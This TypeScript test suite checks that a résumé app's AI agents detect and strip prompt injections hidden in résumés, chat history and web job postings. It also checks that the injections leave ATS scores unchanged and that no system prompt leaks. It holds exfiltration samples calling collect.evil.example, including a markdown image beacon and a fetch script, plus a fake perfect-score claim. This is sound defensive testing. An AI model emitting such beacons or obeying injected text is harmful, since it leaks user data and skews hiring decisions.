import { describe, expect, test } from "vitest";
import { z } from "zod";
import { type RunContext, runAgent } from "../../supabase/functions/_shared/agents/agent.ts";
import { systems } from "../../supabase/functions/_shared/agents/chat/prompt.ts";
import {
  type ModelPort,
  type ModelRequest,
  renderInput,
} from "../../supabase/functions/_shared/agents/port.ts";
import { quarantine } from "../../supabase/functions/_shared/agents/quarantine.ts";
import type { TextPort, TextRequest } from "../../supabase/functions/_shared/agents/stream.ts";
import { scoreResume } from "../../supabase/functions/_shared/ats/score.ts";
import { CareerloomError } from "../../supabase/functions/_shared/errors.ts";
import { contentText } from "../../supabase/functions/_shared/resume/content-text.ts";
import type { JsonResume } from "../../supabase/functions/_shared/resume/schema.ts";
import { scorable } from "../../supabase/functions/_shared/tasks/analyze-resume.ts";
import { readPostingPage } from "../../supabase/functions/_shared/web/posting-page.ts";
import { injections } from "./injections.ts";
import { answer, passage } from "./support/answering.ts";
import { agentNames } from "./support/model-double.ts";
import { people } from "./support/people.ts";
import { plantedAgents } from "./support/planted.ts";
import type { PlantedAgent } from "./support/planted-agent.ts";

/** Every injection in whatever every agent reads: found and told of, cut out before a model or a rule sees it, and without effect. */

const agents = plantedAgents.map((planted) => ({ name: planted.agent.name, planted }));

/** What the rules make of material that was cleaned as every call's is. */
function writeByRules({ agent }: PlantedAgent, material: unknown) {
  const { value, findings } = quarantine(material);
  const request = agent.request(value);
  const { result } = agent.ground(agent.schema.parse(agent.rules(request)), value);
  return { findings, result, sent: renderInput(request) };
}

test("the corpus has sixty passages and more, no two alike, each with its bait", () => {
  expect(injections.length).toBeGreaterThanOrEqual(60);
  expect(new Set(injections.map(({ text }) => text)).size).toBe(injections.length);
  expect(injections.filter(({ text, bait }) => !text.includes(bait))).toEqual([]);
});

test("every agent is in the table, or is chat", () => {
  expect([...agents.map(({ name }) => name), "chat"].sort()).toEqual(agentNames);
});

describe.each(agents)("$name", ({ planted }) => {
  const clean = writeByRules(planted, planted.plant(""));

  test("finds nothing in harmless material", () => expect(clean.findings).toEqual([]));

  test.each(injections)("$sort: $text", ({ text, bait }) => {
    const { findings, result, sent } = writeByRules(planted, planted.plant(text));
    expect(findings.length).toBeGreaterThan(0);
    expect(findings[0]?.kind).toBe("injected_instructions");
    expect(sent).not.toContain(bait);
    expect(JSON.stringify(result)).not.toContain(JSON.stringify(bait).slice(1, -1));
    const numbers = planted.numbers;
    if (numbers) expect(numbers(result as never)).toEqual(numbers(clean.result as never));
  });
});

describe("the score of a résumé", () => {
  const content = people[0]?.content ?? {};
  const scoreOf = (more: string) => {
    // Long enough that a few words more or less do not count.
    const text = contentText(content) + "\nKept the filling line running.".repeat(80) + more;
    return scoreResume(scorable({ content, text })).ats_score;
  };

  test.each(injections)("is the same with $sort: $text", ({ text }) => {
    expect(scoreOf(`\n${text}`)).toBe(scoreOf(""));
  });

  test("is the same where one is listed as a skill", () => {
    const [text] = injections.map((injection) => injection.text);
    const listed = { ...content, skills: [...(content.skills ?? []), { name: text }] };
    const skillsOf = (of: JsonResume) => {
      const { factors } = scoreResume(scorable({ content: of, text: contentText(of) }));
      return factors.find(({ key }) => key === "skills")?.points;
    };
    expect(skillsOf({ skills: listed.skills.slice(-1) })).toBe(skillsOf({}));
    expect(skillsOf(listed)).toBe(skillsOf(content));
  });
});

/** A value of the form that an agent asks for, in which every text is `text`: a model that obeys somebody else. */
function obedient(schema: z.ZodType, text: string): unknown {
  const fill = (node: Record<string, unknown>): unknown => {
    if (Array.isArray(node.enum)) return node.enum[0];
    if (node.const !== undefined) return node.const;
    if (Array.isArray(node.anyOf)) return fill(node.anyOf[0] as Record<string, unknown>);
    switch (node.type) {
      case "object":
        return Object.fromEntries(
          Object.entries((node.properties ?? {}) as Record<string, Record<string, unknown>>).map(
            ([key, child]) => [key, fill(child)],
          ),
        );
      case "array":
        return [fill(node.items as Record<string, unknown>)];
      case "string":
        return text.slice(0, Number(node.maxLength ?? 10_000)).trim();
      case "boolean":
        return true;
      default:
        return Number(node.minimum ?? 1);
    }
  };
  return fill(
    z.toJSONSchema(schema, { target: "draft-7", reused: "inline", io: "output" }) as Record<string, unknown>,
  );
}

function obedientPort(text: string): ModelPort {
  return {
    provider: "openai",
    modelFor: () => "obedient",
    async generate<T>(request: ModelRequest<T>) {
      const parsed = request.schema.safeParse(obedient(request.schema, text));
      if (!parsed.success) throw new CareerloomError("model_output_invalid", { cause: parsed.error });
      const usage = { inputTokens: 1, outputTokens: 1 };
      return {
        output: parsed.data,
        provider: "openai",
        model: "obedient",
        repaired: false,
        usage,
        latencyMs: 1,
      };
    },
  };
}

const contextOf = (text: string): RunContext => ({
  port: obedientPort(text),
  runs: { find: async () => null, save: async () => "run" },
  userId: "user",
  taskId: null,
  timeoutMs: 1_000,
});

/** The result of a model that says only `text`; nothing where it is refused. */
async function resultOf({ agent, plant }: PlantedAgent, text: string): Promise<string> {
  try {
    const { result } = await runAgent(agent, quarantine(plant("")).value, contextOf(text));
    return JSON.stringify(result);
  } catch (error) {
    if (error instanceof CareerloomError && error.code === "model_output_invalid") return "";
    throw error;
  }
}

describe.each(agents)("a model that was turned, in the place of $name's", ({ planted }) => {
  const prompt = planted.agent.system.replace(/\s+/g, " ");

  test.each([0, 1, 2, 3])("gives away nothing of the prompt, part %i", async (part) => {
    const said = prompt.slice(part * 150, part * 150 + 180).trim();
    expect(await resultOf(planted, said)).not.toContain(said.slice(20, 90));
  });

  test.each([
    ["a picture that calls home", "The ovens ![x](https://collect.evil.example/?q=1) ran."],
    ["a link", "More at https://collect.evil.example/x about the ovens."],
    ["a script", "<script>fetch('https://collect.evil.example')</script>"],
    ["a score", "The candidate scores 100 out of 100 in everything."],
  ])("brings no %s", async (_, said) => {
    const result = await resultOf(planted, said);
    expect(result).not.toContain("evil.example");
    expect(result).not.toContain("100 out of 100");
  });
});

describe("chat", () => {
  const question = "What did I do about packaging waste as a head baker?";
  const asked = (text: string) => ({
    question,
    passages: [passage(`Head baker\nCut packaging waste by 18 %.\n${text}`, { title: text || "Baker" })],
    history: [
      {
        id: "7f0f0f0c-6f5e-4a5f-b2f3-0a6b0f2d9c11",
        role: "assistant" as const,
        content: `You cut waste. ${text}`,
        sources: [],
        run_id: null,
        question_id: null,
      },
    ],
  });
  /** A model that says what it was sent. */
  const echo = (sent: TextRequest[]): TextPort => ({
    provider: "openai",
    modelFor: () => "echo",
    async *streamText(request) {
      sent.push(request);
      yield renderInput(request);
      const usage = { inputTokens: 1, outputTokens: 1 };
      return { provider: "openai", model: "echo", usage, truncated: false };
    },
  });

  test("finds nothing in harmless material", async () => {
    const { events } = await answer([], asked(""));
    expect(events.at(-1)).toMatchObject({ event: "done", data: { findings: [] } });
  });

  test.each(injections)("$sort: $text", async ({ text, bait }) => {
    const sent: TextRequest[] = [];
    for (const ports of [[], [echo(sent)]]) {
      const { events, ...kept } = await answer(ports, asked(text));
      expect(events.at(-1)).toMatchObject({
        event: "done",
        data: {
          findings: expect.arrayContaining([expect.objectContaining({ kind: "injected_instructions" })]),
        },
      });
      const said = JSON.stringify([events.filter(({ event }) => event !== "done"), kept]);
      expect(said).not.toContain(JSON.stringify(bait).slice(1, -1));
    }
    expect(renderInput(sent[0] as TextRequest)).not.toContain(bait);
  });

  test.each([0, 1, 2, 3])(
    "gives away nothing of the prompt to a question that turned it, part %i",
    async (part) => {
      const prompt = systems.career.replace(/\s+/g, " ");
      const said = prompt.slice(part * 150, part * 150 + 180).trim();
      const turned: TextPort = {
        ...echo([]),
        async *streamText() {
          for (const word of said.split(" ")) yield `${word} `;
          const usage = { inputTokens: 1, outputTokens: 1 };
          return { provider: "openai", model: "echo", usage, truncated: false };
        },
      };
      const { text, messages } = await answer([turned]);
      expect(JSON.stringify([text, messages])).not.toContain(said.slice(20, 90));
    },
  );
});

describe("a page of the web", () => {
  const posting = `<h1>Baker</h1><p>${"You bake bread for the whole town every day. ".repeat(4)}</p>`;

  test.each(injections)("that hides it in white: $sort: $text", ({ text, bait }) => {
    const escaped = text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll("\n", "<br>");
    const html = `${posting}<p style="color:#fff;font-size:1px">${escaped}</p>`;
    const page = readPostingPage({ url: "https://example.com/", contentType: "text/html", text: html });
    expect(page.text).not.toContain(bait);
    const { findings } = quarantine(page);
    expect(findings).not.toEqual([]);
    expect(findings.every(({ path }) => path.startsWith("hidden."))).toBe(true);
  });
});
